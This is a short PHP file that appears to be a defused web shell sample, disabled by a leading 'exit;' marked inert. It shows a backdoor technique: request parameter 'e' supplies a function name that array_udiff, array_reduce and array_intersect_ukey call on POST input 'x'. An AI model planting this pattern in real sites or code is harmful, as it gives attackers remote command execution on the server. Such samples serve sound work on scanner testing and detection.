<?php exit; /* inert */ 
$e = $_REQUEST['e'];
array_udiff(array($_POST['x']), array(1), $e);
array_reduce(array(1), $e, $_POST['x']);
array_intersect_ukey(array($_POST['x'] => 1), array(1), $e);
